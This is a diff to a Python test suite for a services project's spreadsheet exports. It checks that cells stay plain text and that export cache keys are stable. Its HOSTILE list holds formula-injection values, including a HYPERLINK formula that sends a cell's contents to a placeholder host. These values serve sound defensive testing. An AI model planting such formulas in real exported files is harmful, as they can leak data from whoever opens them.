@@ -1,4 +1,4 @@
-"""The one spreadsheet writer: text stays text (never a formula), equal cells give equal bytes; and every
+"""The one spreadsheet writer: text stays text (never a formula), equal figures give equal bytes; and every
 workbook the services export, built with a hostile cell."""
 from __future__ import annotations
 
@@ -12,14 +12,15 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from services.hours import domain as hours_domain
-from services.hours.spreadsheet import ranking_rows, ranking_xlsx
+from services.hours.spreadsheet import RANKING, ranking_rows, ranking_xlsx
 from services.intake import domain as intake_domain
-from services.intake.spreadsheet import weekly_figures, weekly_workbook
-from services.routing.spreadsheet import league_table_xlsx
+from services.intake.spreadsheet import WEEKLY, weekly_figures, weekly_workbook
+from services.routing.spreadsheet import LEAGUE_TABLE, league_table_xlsx
 from services.routing.stats import department_stats, grid_stats
 from shared.auth import Caller
+from shared.config import Settings
 from shared.reference import Category, Grid
-from shared.spreadsheets import workbook_bytes, write, write_row
+from shared.spreadsheets import Export, workbook_bytes, write, write_row
 
 # What Excel would run, or read as a formula once someone edits the cell, had it been written as typed.
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=A1+1"]
@@ -125,6 +126,49 @@ def test_the_same_cells_give_the_same_bytes_and_carry_no_time_of_saving():
         assert str(datetime.now(UTC).year).encode() not in archive.read("docProps/core.xml")
 
 
+# --- the key of an export's figures -----------------------------------------------------------
+
+ONE_ROW = {"rows": [{"rank": 1, "name": "王*明", "hours": 2.5}], "year": 2026}
+
+
+def test_equal_figures_have_one_key_whatever_their_order():
+    export = Export("test.table", layout=1, build=lambda **_: b"")
+
+    assert export.key(ONE_ROW) == export.key({"year": 2026, "rows": [{"hours": 2.5, "name": "王*明", "rank": 1}]})
+
+
+@pytest.mark.parametrize("other", [
+    Export("test.table", layout=2, build=lambda **_: b""),
+    Export("test.other", layout=1, build=lambda **_: b""),
+])
+def test_another_layout_or_kind_has_another_key(other):
+    assert other.key(ONE_ROW) != Export("test.table", layout=1, build=lambda **_: b"").key(ONE_ROW)
+
+
+def test_changed_figures_have_another_key():
+    export = Export("test.table", layout=1, build=lambda **_: b"")
+    changed = {"rows": [{"rank": 1, "name": "王*明", "hours": 3.0}], "year": 2026}
+
+    assert export.key(changed) != export.key(ONE_ROW)
+
+
+def test_times_and_zones_are_figures_but_an_arbitrary_object_is_not():
+    export = Export("test.table", layout=1, build=lambda **_: b"")
+    moment = datetime(2026, 11, 18, tzinfo=UTC)
+
+    assert export.key({"at": moment}) != export.key({"at": moment + timedelta(seconds=1)})
+    assert export.key({"zone": SHANGHAI}) == export.key({"zone": ZoneInfo("Asia/Shanghai")})
+    with pytest.raises(TypeError):
+        export.key({"thing": object()})
+
+
+def test_how_long_a_built_workbook_is_kept_is_a_setting_of_at_least_a_second():
+    assert Settings.from_env("hours", env={}).spreadsheet_cache_s == 3600
+    assert Settings.from_env("hours", env={"WOODPECKER_SPREADSHEET_CACHE_S": "600"}).spreadsheet_cache_s == 600
+    with pytest.raises(ValueError, match="WOODPECKER_SPREADSHEET_CACHE_S"):
+        Settings.from_env("hours", env={"WOODPECKER_SPREADSHEET_CACHE_S": "0"})
+
+
 # --- each export, with a hostile cell ----------------------------------------------------------
 
 WEEK = intake_domain.Week(2026, 47, SHANGHAI)
@@ -144,7 +188,7 @@ def weekly_report(description: str, address: str) -> dict:
 @pytest.mark.parametrize("typed", HOSTILE)
 def test_weekly_grid_workbook_holds_a_hostile_description_and_address_as_typed(typed):
     summary = intake_domain.weekly_summary(GRID, WEEK, [weekly_report(typed, typed)], CATEGORIES)
-    workbook = weekly_workbook(**weekly_figures(summary, CATEGORIES, SHANGHAI))
+    workbook = WEEKLY.build(**weekly_figures(summary, CATEGORIES, SHANGHAI))
 
     assert_no_formula(workbook)
     for sheet in ("本周上报明细", "未办结问题"):
@@ -182,7 +226,7 @@ def test_rankings_workbook_holds_a_hostile_organization_and_masked_name_as_typed
 def test_a_name_masked_into_what_looks_like_a_formula_stays_text():
     shown = [hours_domain.ranking_row({"rank": 1, "name": "=A1+1", "volunteer_id": "v1", "organization": "红马甲",
                                        "grid_id": "lanshan-01", "centihours": 100}, VOLUNTEER)]
-    workbook = ranking_xlsx(ranking_rows(shown, {}), 2026, "hours", "全市")
+    workbook = RANKING.build(rows=ranking_rows(shown, {}), year=2026, by="hours", scope_text="全市")
 
     assert_no_formula(workbook)
     assert_text_as_typed(cell_of(workbook, None, "B4"), "=***1")
@@ -195,8 +239,9 @@ START, END = datetime(2026, 10, 31, 16, tzinfo=UTC), datetime(2026, 11, 30, 16, 
 @pytest.mark.parametrize("kind, stats", [("department", department_stats), ("grid", grid_stats)])
 def test_league_tables_hold_a_hostile_name_title_and_period_as_typed(typed, kind, stats):
     rows = stats([], {"somewhere": typed}, START, END, END)
-    workbook = league_table_xlsx(rows, typed, typed, kind)
+    workbook = LEAGUE_TABLE.build(rows=rows, title=typed, period_text=typed, kind=kind)
 
     assert_no_formula(workbook)
     assert_text_as_typed(cell_of(workbook, "排名通报", "A1"), typed)
     assert_text_as_typed(cell_of(workbook, "排名通报", "B5"), typed)
+    assert league_table_xlsx(rows, typed, typed, kind) == workbook
